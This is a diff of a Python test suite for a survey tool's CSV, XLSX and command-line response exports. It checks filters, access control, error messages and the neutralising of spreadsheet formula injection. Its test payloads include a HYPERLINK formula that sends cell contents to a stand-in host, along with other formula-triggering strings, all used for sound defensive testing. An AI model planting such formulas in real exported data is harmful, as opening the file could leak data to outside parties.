@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
 import xml.etree.ElementTree as ET
 import zipfile
 from datetime import date, datetime
@@ -17,12 +19,17 @@ from tests.factories import add_answers, make_survey, make_user
 from tests.pages import log_in
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
+COMMENTS = [*PAYLOADS[:3], "The 50%_off code failed", *PAYLOADS[3:]]
+ALL = list(range(len(COMMENTS)))
+NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 
-def story(survey):
-    """Leeds in October, York in September; free text and a theme on some."""
-    ids = add_answers(survey, [(date(2026, 10, 5), "Leeds", 5)] * 3 + [(date(2026, 9, 5), "York", 2)] * 2)
-    for response_id, text in zip(ids, [*PAYLOADS[:3], "The 50%_off code failed", PAYLOADS[3]], strict=True):
+def story(survey) -> list[int]:
+    """Leeds in October (0–2), York in September (3–4), no location in August (5–6); a comment on each
+    (mostly formula-like), the theme "billing" on the first."""
+    ids = add_answers(survey, [(date(2026, 10, 5), "Leeds", 5)] * 3 + [(date(2026, 9, 5), "York", 2)] * 2
+                      + [(date(2026, 8, 5), None, 3)] * 2)
+    for response_id, text in zip(ids, COMMENTS, strict=True):
         db.session.add(Answer(response_id=response_id, question_key="comment", value_text=text))
     db.session.add(ResponseTag(response_id=ids[0], tag="billing", created_at=datetime(2026, 10, 6)))
     db.session.commit()
@@ -30,104 +37,162 @@ def story(survey):
 
 
 @pytest.fixture
-def slug(app):
+def ids(app) -> list[int]:
     with app.app_context():
         survey = make_survey()
-        story(survey)
+        made = story(survey)
         make_user(email="analyst@example.com", role="analyst")
         make_user(email="agent@example.com", role="agent")
-        return survey.slug
+        return made
+
+
+@pytest.fixture
+def analyst(client, ids):
+    log_in(client, "analyst@example.com")
+    return client
+
+
+URL = "/manage/surveys/support-csat/responses"
 
 
 def csv_rows(text: str) -> list[dict]:
     return list(csv.DictReader(io.StringIO(text)))
 
 
-def xlsx_cells(data: bytes) -> tuple[list[list[str]], str]:
-    """The first sheet's cell texts (inline or shared strings, numbers as text) and its raw XML."""
-    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+def _unescape(text: str) -> str:
+    """OOXML writes control characters as _xHHHH_ (and a literal "_x" as _x005F_x)."""
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)
+
+
+def xlsx_sheet(data: bytes) -> tuple[list[list[tuple[str, str]]], str]:
+    """The first sheet's rows of (cell type, text) — "s"/"inlineStr" for strings, "n" for numbers — and
+    its raw XML, read with the standard library only."""
     with zipfile.ZipFile(io.BytesIO(data)) as book:
         sheet = book.read("xl/worksheets/sheet1.xml").decode()
-        names = book.namelist()
-        shared = ["".join(t.text or "" for t in item.iter(f"{{{ns['x']}}}t"))
-                  for item in ET.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", ns)] \
-            if "xl/sharedStrings.xml" in names else []
+        shared = ["".join(t.text or "" for t in item.iter(f"{NS}t"))
+                  for item in ET.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{NS}si")] \
+            if "xl/sharedStrings.xml" in book.namelist() else []
     rows = []
-    for row in ET.fromstring(sheet).iter(f"{{{ns['x']}}}row"):
+    for row in ET.fromstring(sheet).iter(f"{NS}row"):
         cells = []
-        for cell in row.findall("x:c", ns):
-            kind, value = cell.get("t"), cell.find("x:v", ns)
+        for cell in row.iter(f"{NS}c"):
+            kind, value = cell.get("t", "n"), cell.find(f"{NS}v")
             if kind == "inlineStr":
-                cells.append("".join(t.text or "" for t in cell.iter(f"{{{ns['x']}}}t")))
-            elif kind == "s":
-                cells.append(shared[int(value.text)])
+                text = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
             else:
-                cells.append(value.text if value is not None else "")
+                text = shared[int(value.text)] if kind == "s" else value.text
+            cells.append((kind, _unescape(text)))
         rows.append(cells)
     return rows, sheet
 
 
-@pytest.mark.parametrize("query, expected", [
-    ("", 5), ("?where=location=Leeds", 3), ("?from=2026-10-01", 3), ("?to=2026-09-30", 2),
-    ("?q=50%25_off", 1), ("?q=50__off", 0), ("?tag=Billing", 1), ("?version=1", 5), ("?version=2", 0),
-])
-def test_csv_holds_exactly_the_filtered_responses(client, slug, query, expected):
-    log_in(client, "analyst@example.com")
-    response = client.get(f"/manage/surveys/{slug}/responses.csv{query}")
-    assert response.status_code == 200 and response.mimetype == "text/csv"
-    assert 'attachment; filename="support-csat-responses.csv"' == response.headers["Content-Disposition"]
-    assert len(csv_rows(response.get_data(as_text=True))) == expected
+def xlsx_texts(data: bytes) -> list[list[str]]:
+    return [[text for _kind, text in row] for row in xlsx_sheet(data)[0]]
 
 
-def test_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(client, slug):
-    log_in(client, "analyst@example.com")
-    rows = csv_rows(client.get(f"/manage/surveys/{slug}/responses.csv").get_data(as_text=True))
-    comments = sorted(row["comment"] for row in rows)
-    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in comments)
-    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in comments and "'@SUM(A1)" in comments
+FILTERS = [
+    ("", ALL), ("?where=location=Leeds", [0, 1, 2]), ("?from=2026-10-01", [0, 1, 2]),
+    ("?to=2026-09-30", [3, 4, 5, 6]), ("?from=2026-09-01&to=2026-09-30", [3, 4]),
+    ("?q=50%25_off", [3]), ("?q=50__off", []), ("?q=sum(a1)", [4]), ("?tag=Billing", [0]),
+    ("?version=1", ALL), ("?version=2", []), ("?where=location=York&tag=billing", []),
+    ("?period=week", ALL),  # the page's period unit does not narrow an export
+]
+
+
+@pytest.mark.parametrize("query, expected", FILTERS)
+def test_csv_and_xlsx_hold_exactly_the_filtered_responses(analyst, ids, query, expected):
+    wanted = [str(ids[i]) for i in expected]
+    response = analyst.get(f"{URL}.csv{query}")
+    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.csv"'
+    assert [row["response_id"] for row in csv_rows(response.get_data(as_text=True))] == wanted
+
+    workbook = analyst.get(f"{URL}.xlsx{query}")
+    assert workbook.status_code == 200 and workbook.mimetype == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    assert workbook.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.xlsx"'
+    assert [row[0] for row in xlsx_texts(workbook.get_data())[1:]] == wanted
+
+
+def test_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(analyst):
+    rows = csv_rows(analyst.get(f"{URL}.csv").get_data(as_text=True))
+    assert sorted(row["comment"] for row in rows) == sorted(
+        "'" + text if text in PAYLOADS else text for text in COMMENTS)
     assert [row["tags"] for row in rows].count("billing") == 1
 
-    workbook = client.get(f"/manage/surveys/{slug}/responses.xlsx")
-    assert workbook.status_code == 200 and workbook.mimetype.endswith("spreadsheetml.sheet")
-    cells, sheet = xlsx_cells(workbook.get_data())
+    cells, sheet = xlsx_sheet(analyst.get(f"{URL}.xlsx").get_data())
     assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
-    header = cells[0]
-    assert header == list(rows[0].keys())  # the same columns as the CSV
-    column = header.index("comment")
-    assert sorted(row[column] for row in cells[1:]) == comments
+    header = [text for _kind, text in cells[0]]
+    assert header == list(rows[0].keys())  # the same columns as the CSV, in the same order
+    comment, number = header.index("comment"), header.index("response_id")
+    assert sorted(row[comment][1] for row in cells[1:]) == sorted(row["comment"] for row in rows)
+    assert {row[comment][0] for row in cells[1:]} <= {"s", "inlineStr"}  # written as text, whatever it says
+    assert {row[number][0] for row in cells[1:]} == {"n"}  # numbers stay numbers
+    assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet  # the header row stays in view
+    columns = re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', sheet)  # equal neighbours merge
+    assert sum(int(last) - int(first) + 1 for first, last, _width in columns) == len(header)
+    assert all(8 <= float(width) <= 51 for _first, _last, width in columns)
 
 
-def test_bad_filters_export_nothing_and_say_why(client, slug):
-    log_in(client, "analyst@example.com")
-    response = client.get(f"/manage/surveys/{slug}/responses.csv?from=last-week")
-    assert response.status_code == 400 and "from: 'last-week' is not a date" in response.get_data(as_text=True)
-    assert client.get("/manage/surveys/nope/responses.xlsx").status_code == 404
+def test_bad_filters_export_nothing_and_say_why(analyst):
+    response = analyst.get(f"{URL}.csv?from=last-week")
+    assert response.status_code == 400 and response.mimetype == "text/plain"
+    assert "from: 'last-week' is not a date" in response.get_data(as_text=True)
+    workbook = analyst.get(f"{URL}.xlsx?to=2026-13-01&version=x")
+    text = workbook.get_data(as_text=True)
+    assert workbook.status_code == 400 and "to: " in text and "version: " in text
+    assert analyst.get("/manage/surveys/nope/responses.xlsx").status_code == 404
 
 
-def test_agents_and_strangers_cannot_export(client, slug):
-    assert client.get(f"/manage/surveys/{slug}/responses.csv").status_code == 302
+def test_agents_and_strangers_cannot_export(client, ids):
+    assert client.get(f"{URL}.csv").status_code == 302
+    assert "/login" in client.get(f"{URL}.xlsx").headers["Location"]
     log_in(client, "agent@example.com")
-    assert client.get(f"/manage/surveys/{slug}/responses.csv").status_code == 403
-    assert client.get(f"/manage/surveys/{slug}/responses.xlsx").status_code == 403
+    assert client.get(f"{URL}.csv").status_code == 403
+    assert client.get(f"{URL}.xlsx").status_code == 403
 
 
-def test_command_line_filters_match_the_page(client, slug, runner, tmp_path):
-    log_in(client, "analyst@example.com")
-    page = client.get(f"/manage/surveys/{slug}/responses.csv?where=location=Leeds&from=2026-10-01").get_data(
-        as_text=True)
-    result = runner.invoke(args=["export-responses", slug, "--where", "location=Leeds", "--from", "2026-10-01"])
+@pytest.mark.parametrize("query, options, expected", [
+    ("where=location=Leeds&from=2026-10-01", ["--where", "location=Leeds", "--from", "2026-10-01"], [0, 1, 2]),
+    ("to=2026-09-30&q=SUM", ["--to", "2026-09-30", "--search", "SUM"], [4]),
+    ("tag=billing&version=1", ["--tag", "billing", "--version", "1"], [0]),
+])
+def test_command_line_filters_match_the_page(analyst, ids, runner, tmp_path, query, options, expected):
+    page = analyst.get(f"{URL}.csv?{query}").get_data(as_text=True)
+    result = runner.invoke(args=["export-responses", "support-csat", *options])
     assert result.exit_code == 0 and result.output == page
+    assert [row["response_id"] for row in csv_rows(page)] == [str(ids[i]) for i in expected]
 
-    bad = runner.invoke(args=["export-responses", slug, "--where", "bogus"])
-    assert bad.exit_code == 1 and "--where" in bad.output
-    assert runner.invoke(args=["export-responses", slug, "--format", "xlsx"]).exit_code == 2
-
-    target = tmp_path / "leeds.xlsx"
-    done = runner.invoke(args=["export-responses", slug, "--format", "xlsx", "--output", str(target),
-                               "--where", "location=Leeds"])
+    target = tmp_path / "view.xlsx"
+    done = runner.invoke(args=["export-responses", "support-csat", "--format", "xlsx", "--output", str(target),
+                               *options])
     assert done.exit_code == 0
-    cells, _ = xlsx_cells(target.read_bytes())
-    assert len(cells) == 4  # header and the three Leeds responses
+    assert xlsx_texts(target.read_bytes()) == xlsx_texts(analyst.get(f"{URL}.xlsx?{query}").get_data())
+
+
+@pytest.mark.parametrize("options, status, message", [
+    (["--format", "xlsx"], 2, "give --output FILE"),
+    (["--where", "bogus"], 1, "--where: write ATTRIBUTE=VALUE"),
+    (["--where", "shoe=42"], 1, "--where: "),
+    (["--from", "last-week"], 1, "--from: 'last-week' is not a date"),
+    (["--to", "2026-02-30"], 1, "--to: "),
+    (["--version", "two"], 1, "--version: 'two' is not a version number"),
+    (["--output", "/nonexistent/dir/out.csv"], 1, "cannot write /nonexistent/dir/out.csv"),
+    (["--format", "xlsx", "--output", "/nonexistent/dir/out.xlsx"], 1, "cannot write"),
+])
+def test_command_line_rejects_bad_options_with_a_message(runner, ids, options, status, message):
+    result = runner.invoke(args=["export-responses", "support-csat", *options])
+    assert result.exit_code == status and message in result.output
+    assert isinstance(result.exception, SystemExit)  # a message, not a traceback
+
+
+def test_command_line_since_and_json_keep_working_with_filters(runner, ids):
+    york = runner.invoke(args=["export-responses", "support-csat", "--since", "2026-09-01", "--to", "2026-09-30"])
+    assert [row["response_id"] for row in csv_rows(york.output)] == [str(ids[3]), str(ids[4])]
+    as_json = json.loads(runner.invoke(args=["export-responses", "support-csat", "--format", "json"]).output)
+    assert [record["tags"] for record in as_json] == [["billing"]] + [[]] * (len(ids) - 1)
+    tagged = runner.invoke(args=["export-responses", "support-csat", "--format", "jsonl", "--tag", "billing"])
+    assert [json.loads(line)["response_id"] for line in tagged.output.splitlines()] == [ids[0]]
 
 
 def test_unfiltered_export_is_unchanged_apart_from_the_tags_column(ctx, runner):
